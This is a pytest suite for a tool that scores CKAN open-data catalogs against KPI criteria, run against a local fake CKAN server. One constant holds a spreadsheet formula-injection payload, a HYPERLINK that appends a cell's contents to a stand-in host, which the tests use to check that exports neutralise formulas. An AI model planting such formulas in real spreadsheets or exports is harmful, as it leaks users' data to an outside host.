"""opdc-kpi-remote against a CKAN API double on loopback: no CKAN, no network."""
from __future__ import annotations

import csv
import io
import json
import logging
import os
import socket
import subprocess
import sys

import pytest

from ckanext.opdc_kpi.remote import cli
from ckanext.opdc_kpi.remote.basket import BasketError, read_basket
from ckanext.opdc_kpi.remote.client import CkanClient

from .fake_ckan import FakeCkan, ok, search_over, status_show

ORG_ID = "5a1f0000-0000-4000-8000-000000000001"
SECRET = "tok-3f9a-very-secret-api-key"


def _dataset(n: int, **overrides):
    """A dataset as a CKAN 2.9 agency catalog (ckanext-thai_gdc) serves it:
    multiple choices as JSON-list strings, "True"/"False" strings, no
    focus_area or kpi_years."""
    pkg = {
        "id": f"00000000-0000-4000-8000-{n:012d}", "name": f"agency-dataset-{n}",
        "title": f"ชุดข้อมูลที่ {n}", "owner_org": ORG_ID, "private": False, "state": "active",
        "type": "dataset", "organization": {"id": ORG_ID, "name": "agency"},
        "data_type": "ข้อมูลสถิติ", "maintainer": "กองสถิติ", "maintainer_email": "stat@agency.go.th",
        "tags": [{"name": "สถิติ"}, {"name": "จังหวัด"}],
        "notes": "รายละเอียด", "objective": '["พันธกิจหน่วยงาน"]',
        "update_frequency_unit": "เดือน", "update_frequency_interval": "1",
        "geo_coverage": "จังหวัด", "data_source": "กองสถิติ", "data_format": '["CSV"]',
        "data_category": "ข้อมูลสาธารณะ", "license_id": "Open Data Common",
        "allow_harvest": "True",
        "resources": [{"url": f"https://agency.example/{n}.csv", "format": "CSV"}],
    }
    pkg.update(overrides)
    return pkg


DATASETS = [
    _dataset(1),
    _dataset(2, geo_coverage=""),                       # 13 items
    _dataset(3, extras=[{"key": "use_case_url", "value": "https://report.example/1"}]),
    _dataset(4),
    _dataset(5),
]


def _org_show(params, headers):
    if params.get("id") not in ("agency", ORG_ID):
        return 404, {"success": False, "error": {"__type": "Not Found Error",
                                                 "message": "Not found"}}
    return ok({"id": ORG_ID, "name": "agency", "title": "หน่วยงานตัวอย่าง",
               "extras": [{"key": "catalog_url", "value": "https://catalog.agency.go.th"}]})


def _fake(rows_max=1000, **extra):
    handlers = {"status_show": status_show, "organization_show": _org_show,
                "package_search": search_over(DATASETS, rows_max=rows_max)}
    handlers.update(extra)
    return FakeCkan(handlers)


@pytest.fixture
def basket_csv(tmp_path):
    path = tmp_path / "basket.csv"
    path.write_text(
        "ภารกิจ,focus area,กระบวนการทำงานหลัก,dataset,sub-process,issue\n"
        "บริการประชาชน,ด้านท่องเที่ยว,จัดทำสถิติ,agency-dataset-1,,ท่องเที่ยวเมืองรอง\n"
        "บริการประชาชน,tourism,จัดทำสถิติ,http://x.example/dataset/agency-dataset-2,,\n"
        "บริการประชาชน,Tourism,จัดทำสถิติ,not-in-catalog,,\n",
        encoding="utf-8-sig")
    return path


def _run(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_scores_a_29_catalog_with_a_basket_file(capsys, basket_csv):
    with _fake(rows_max=2) as fake:  # a catalog that pages by 2: every page is read
        code, out, err = _run(capsys, "score", fake.url, "--org", "agency", "--year", "2565",
                              "--basket", str(basket_csv), "--format", "json", "--quiet",
                              "--lang", "en")
    assert code == 0, err
    report = json.loads(out)
    assert report["basket"] == 2
    assert report["parts"]["basic"]["passed"] is True
    assert report["parts"]["metadata"]["complete"] == 1
    assert report["parts"]["metadata"]["points"] == 7.5
    assert report["parts"]["catalog"]["url"] == "https://catalog.agency.go.th"
    assert report["focus_areas"] == ["tourism"]
    missing = {d["name"]: d["missing"] for d in report["datasets"]}
    assert missing == {"agency-dataset-1": [], "agency-dataset-2": ["geo_coverage"]}
    assert report["public_only"] is True
    assert report["source"]["datasets_read"] == 5
    assert any("not-in-catalog" in w for w in report["source"]["warnings"])
    assert any("no API key" in w for w in report["source"]["warnings"])


def test_without_a_basket_an_agency_catalog_has_no_basket(capsys):
    with _fake() as fake:
        code, out, _ = _run(capsys, "score", fake.url, "--org", "agency", "--year", "2565",
                            "--format", "csv", "--quiet")
    assert code == 0
    assert "agency" in out and ",0.00," in out  # basic fails: score 0


def test_xlsx_basket_and_xlsx_output(capsys, tmp_path):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["dataset", "focus_area", "mission", "work_process"])
    sheet.append(["agency-dataset-4", "ด้านท่องเที่ยว", "ภารกิจ", "กระบวนการ"])
    basket = tmp_path / "basket.xlsx"
    book.save(basket)
    out_file = tmp_path / "score.xlsx"
    with _fake() as fake:
        code, _, err = _run(capsys, "score", fake.url, "--org", "agency", "--year", "2565",
                            "--basket", str(basket), "--format", "xlsx", "--output",
                            str(out_file), "--quiet")
    assert code == 0, err
    result = openpyxl.load_workbook(out_file)
    summary = list(result["summary"].iter_rows(values_only=True))
    assert summary[0][:3] == ("url", "organization", "title")
    # 50 basic + 15 metadata + 10 catalog + 6 openness (a CSV file: tier 1)
    assert summary[1][1] == "agency" and summary[1][3] == "81.00"
    assert [r[0] for r in list(result["datasets"].iter_rows(values_only=True))[1:]] == \
        ["agency-dataset-4"]


def test_basket_errors_name_the_row(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("focus_area,mission,work_process,dataset\nด้านกีฬา,ภารกิจ,กระบวนการ,x\n",
                   encoding="utf-8")
    with pytest.raises(BasketError, match="row 2"):
        read_basket(bad)
    no_column = tmp_path / "cols.csv"
    no_column.write_text("focus_area,dataset\ntourism,x\n", encoding="utf-8")
    with pytest.raises(BasketError, match="mission"):
        read_basket(no_column)
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes("focus_area,mission\n\xe9".encode("latin-1"))
    with pytest.raises(BasketError, match="UTF-8"):
        read_basket(latin1)


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_unreachable_site_exits_3(capsys):
    code, _, err = _run(capsys, "score", f"http://127.0.0.1:{_closed_port()}", "--org", "x",
                        "--retries", "1", "--timeout", "2", "--quiet")
    assert code == 3 and "cannot reach" in err


def test_a_site_that_is_not_ckan_exits_4(capsys):
    html = {"status_show": lambda p, h: (200, "<html><body>Welcome</body></html>")}
    with FakeCkan(html) as fake:
        code, _, err = _run(capsys, "score", fake.url, "--org", "x", "--quiet")
    assert code == 4 and "CKAN" in err


def test_missing_organization_exits_5(capsys):
    with _fake() as fake:
        code, _, err = _run(capsys, "score", fake.url, "--org", "nobody", "--quiet")
    assert code == 5 and "organization_show" in err


def test_refused_without_key_exits_6_and_says_so(capsys):
    denied = {"status_show": status_show, "organization_show": lambda p, h: (
        403, {"success": False, "error": {"__type": "Authorization Error", "message": "no"}})}
    with FakeCkan(denied) as fake:
        code, _, err = _run(capsys, "score", fake.url, "--org", "agency", "--quiet")
    assert code == 6 and "no API key" in err


def test_bad_year_and_missing_arguments_exit_2(capsys):
    assert _run(capsys, "score", "http://x.example", "--org", "a", "--year", "1999")[0] == 2
    assert _run(capsys, "score", "http://x.example")[0] == 2


def test_retries_after_a_503_then_succeeds():
    calls = {"n": 0}

    def flaky(params, headers):
        calls["n"] += 1
        if calls["n"] == 1:
            return 503, "<html>busy</html>"
        return status_show(params, headers)

    with FakeCkan({"status_show": flaky}) as fake:
        client = CkanClient(fake.url, retries=2, backoff=0.01)
        assert client.check_site()["ckan_version"] == "2.9.11"
    assert calls["n"] == 2


def test_api_key_is_sent_but_never_shown(capsys, caplog, monkeypatch, basket_csv):
    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv(cli.API_KEY_ENV, SECRET)
    private = _dataset(9, private=True)

    def visible(pkg, headers):
        return not pkg.get("private") or headers.get("Authorization") == SECRET

    with FakeCkan({"status_show": status_show, "organization_show": _org_show,
                   "package_search": search_over(DATASETS + [private], visible=visible)}) as fake:
        code, out, err = _run(capsys, "score", fake.url, "--org", "agency", "--year", "2565",
                              "--basket", str(basket_csv), "--format", "json")
        failed = _run(capsys, "score", fake.url, "--org", "nobody")
    assert code == 0
    assert all(r["headers"].get("Authorization") == SECRET for r in fake.requests)
    report = json.loads(out)
    assert report["public_only"] is False and report["source"]["datasets_read"] == 6
    text = out + err + failed[1] + failed[2] + caplog.text + repr(CkanClient(fake.url, SECRET))
    assert SECRET not in text


def test_score_many_catalogs_from_a_list(capsys, tmp_path, basket_csv):
    with _fake() as fake:
        listing = tmp_path / "catalogs.txt"
        listing.write_text(f"# url org basket\n{fake.url} agency {basket_csv.name}\n"
                           f"http://127.0.0.1:{_closed_port()} other\n", encoding="utf-8")
        code, out, _ = _run(capsys, "score", "--list", str(listing), "--year", "2565",
                            "--format", "json", "--quiet", "--retries", "0", "--timeout", "2")
    rows = json.loads(out)
    assert code == 3
    assert rows[0]["organization"] == "agency" and rows[0]["basket"] == 2 and not rows[0]["error"]
    assert rows[1]["organization"] == "other" and "cannot reach" in rows[1]["error"]


def test_harvest_check_finds_a_catalog_that_ignores_start(capsys):
    def broken(params, headers):  # every page is the first page
        items = sorted(DATASETS, key=lambda d: d["id"])
        if params.get("sort", "").startswith("name"):
            return ok({"count": len(items), "results": items})
        return ok({"count": len(items), "results": items[:2]})

    with FakeCkan({"status_show": status_show, "package_search": broken}) as fake:
        code, out, _ = _run(capsys, "harvest-check", fake.url, "--format", "json", "--quiet")
    result = json.loads(out)
    assert code == 0
    assert result["seen"] == 2 and result["paging_ok"] is False
    assert {i["code"] for i in result["paging"]} >= {"harvest_paging_repeated_page",
                                                      "harvest_paging_skipped"}


def test_harvest_check_reports_received_problems(capsys):
    with _fake() as fake:
        code, out, _ = _run(capsys, "harvest-check", fake.url, "--org", "agency",
                            "--format", "json", "--lang", "en")
    result = json.loads(out)
    assert code == 0 and result["seen"] == 5 and result["paging_ok"] is True
    flagged = {p["name"]: {i["field"] for i in p["issues"]} for p in result["problems"]}
    assert "geo_coverage" in flagged["agency-dataset-2"]


def test_the_tool_imports_without_ckan():
    code = ("import sys; sys.modules['ckan'] = None; "
            "import ckanext.opdc_kpi.remote.cli, ckanext.opdc_kpi.remote.assess; print('ok')")
    env = dict(os.environ)
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                            env=env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "ok"


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


def test_csv_and_xlsx_output_keep_a_formula_title_as_text(capsys, tmp_path):
    import csv as csv_module

    import openpyxl

    datasets = [_dataset(1, title=FORMULA), _dataset(2, title="+66 2 123 4567")]
    handlers = {"status_show": status_show, "organization_show": _org_show,
                "package_search": search_over(datasets)}
    basket = tmp_path / "basket.csv"
    basket.write_text("focus_area,mission,work_process,dataset\n"
                      "tourism,m,w,agency-dataset-1\ntourism,m,w,agency-dataset-2\n",
                      encoding="utf-8")
    out_file = tmp_path / "score.xlsx"
    with FakeCkan(handlers) as fake:
        common = ("score", fake.url, "--org", "agency", "--year", "2565", "--quiet",
                  "--basket", str(basket))
        code, out, err = _run(capsys, *common, "--format", "csv")
        assert code == 0, err
        code, _, err = _run(capsys, *common, "--format", "xlsx", "--output", str(out_file))
        assert code == 0, err
    titles = [row["title"] for row in csv_module.DictReader(io.StringIO(out.split("\n\n")[0]))]
    assert titles == ["'" + FORMULA, "'+66 2 123 4567"]
    sheet = openpyxl.load_workbook(out_file)["datasets"]
    cells = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
    assert cells == {FORMULA: "s", "+66 2 123 4567": "s"}
    summary = list(openpyxl.load_workbook(out_file)["summary"].iter_rows(min_row=2))[0]
    assert all(c.data_type != "f" for c in summary)


def test_a_basket_csv_written_with_the_formula_guard_reads_back_as_typed(tmp_path):
    import csv as csv_module

    from ckanext.opdc_kpi.scoring.cells import csv_row

    columns = ["focus_area", "mission", "work_process", "sub_process", "dataset"]
    row = {"focus_area": "tourism", "mission": FORMULA, "work_process": "-5",
           "sub_process": "'=quoted", "dataset": "agency-dataset-1"}
    path = tmp_path / "basket.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv_module.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerow(csv_row(row, columns))
    assert "'" + FORMULA.replace('"', '""') in path.read_text(encoding="utf-8")
    (read,) = read_basket(path).rows
    assert (read.mission, read.work_process, read.sub_process) == (FORMULA, "-5", "'=quoted")


def test_an_oversized_xlsx_basket_is_refused_like_a_csv(tmp_path, monkeypatch):
    import openpyxl

    from ckanext.opdc_kpi.remote import basket as basket_module

    monkeypatch.setattr(basket_module, "MAX_ROWS", 3)
    header = ["focus_area", "mission", "work_process", "dataset"]
    rows = [["tourism", "m", "w", f"d{n}"] for n in range(4)]
    book = openpyxl.Workbook()
    for values in [header, [], *rows]:   # a blank row does not hide the excess
        book.active.append(values)
    xlsx = tmp_path / "big.xlsx"
    book.save(xlsx)
    csv_file = tmp_path / "big.csv"
    csv_file.write_text("\n".join(",".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
    for path in (xlsx, csv_file):
        with pytest.raises(BasketError, match="more than 3 rows"):
            read_basket(path)
    book.active.delete_rows(book.active.max_row)
    book.save(xlsx)
    assert len(read_basket(xlsx).rows) == 3   # at the limit: read whole


def test_a_title_of_thousands_of_quotes_in_the_csv(capsys, tmp_path):
    quoted = "'" * 5000 + FORMULA
    handlers = {"status_show": status_show, "organization_show": _org_show,
                "package_search": search_over([_dataset(1, title=quoted)])}
    basket = tmp_path / "basket.csv"
    basket.write_text("focus_area,mission,work_process,dataset\ntourism,m,w,agency-dataset-1\n",
                      encoding="utf-8")
    with FakeCkan(handlers) as fake:
        code, out, err = _run(capsys, "score", fake.url, "--org", "agency", "--year", "2565",
                              "--quiet", "--basket", str(basket), "--format", "csv")
    assert code == 0, err
    (row,) = csv.DictReader(io.StringIO(out.split("\n\n")[0]))
    assert row["title"] == "'" + quoted
